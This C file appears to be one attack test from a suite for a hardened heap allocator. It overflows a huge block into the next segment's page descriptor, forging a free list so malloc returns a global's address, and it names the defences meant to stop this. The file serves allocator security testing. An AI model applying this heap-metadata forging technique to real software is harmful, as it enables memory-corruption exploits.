/* overflow_huge_descriptor: linear overflow off the end of a huge block into
 * the page descriptor of the next segment, forging its free list.
 *
 * Bug modelled: a write of N bytes past the end of a huge (> 2 MiB) block.
 * A huge block runs to the very end of its mapping, and segments are mapped
 * next to each other, so the bytes after it are the next segment's header
 * (136 bytes) and its page descriptors (128 bytes each).
 *
 * Steps:
 *  1. malloc(20000) creates a medium segment M (the process's first).
 *  2. Allocate huge blocks of exactly one segment until one ends where M
 *     starts (malloc_usable_size gives the end; only addresses are used).
 *  3. Overflow 264 bytes from that block: the header gets filler bytes (no
 *     read needed: the cookie is only checked by free/realloc), and page 0's
 *     descriptor gets free = &target, keys = {&target, 0} so that the link
 *     stored in target (0) decodes to NULL in the secure build as well.
 *  4. malloc(20000) pops the forged free list.
 * WIN: malloc returns &target, a global of this program.
 * Defence that should stop it: guard page (or an unmapped gap) after every
 * segment / huge block; authenticated page descriptors (free-list head and
 * keys covered by a MAC), or metadata kept out of line. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

static uintptr_t target[8] __attribute__((aligned(64)));

int main(void) {
  start(10);
  char* probe = malloc(3 * MIB);
  size_t info = (uintptr_t)probe & (SEG - 1); /* huge blocks start info_size into their segment */
  free(hide(probe));

  char* m = malloc(20000);
  uintptr_t mseg = (uintptr_t)m & ~(SEG - 1);
  if (m == NULL || (uintptr_t)m - mseg >= 512 * 1024) lost("20000-byte block %p is not on medium page 0", (void*)m);

  char* src = NULL;
  for (int i = 0; i < 32 && src == NULL; i++) {
    char* h = malloc(SEG - info);
    if (h == NULL) break;
    if ((uintptr_t)h + malloc_usable_size(h) == mseg) src = h;
  }
  if (src == NULL) lost("no huge block ended right before the medium segment at %p", (void*)mseg);
  note("huge block %p ends at medium segment %p", (void*)src, (void*)mseg);

  unsigned char* o = (unsigned char*)src + malloc_usable_size(src); /* == mseg: the overflow */
  memset(o, 0x41, 136);                                            /* segment header: filler */
  unsigned char d[128];
  memset(d, 0, sizeof d);
  uintptr_t v;
  v = (uintptr_t)target; memcpy(d + 0, &v, 8);     /* free */
  uint32_t u = 1;        memcpy(d + 8, &u, 4);     /* used */
  d[14] = 1;                                       /* segment_in_use */
  v = 20480;             memcpy(d + 32, &v, 8);    /* block_size */
  v = mseg + info;       memcpy(d + 40, &v, 8);    /* page_start (a guess; not checked on pop) */
  u = 25;                memcpy(d + 48, &u, 4);    /* capacity */
  memcpy(d + 52, &u, 4);                           /* reserved */
  v = 2;                 memcpy(d + 56, &v, 8);    /* thread_free: NO_DELAYED */
  v = (uintptr_t)target; memcpy(d + 72, &v, 8);    /* keys[0]: target's word 0 ^ target */
  v = 0;                 memcpy(d + 80, &v, 8);    /* keys[1]: rotation 0 */
  memcpy(o + 136, d, sizeof d);

  void* q = hide(malloc(20000));
  if (q == (void*)target) win("malloc(20000) returned %p, the address of a global chosen by the attacker", q);
  lost("malloc(20000) returned %p, not the forged %p", q, (void*)target);
}
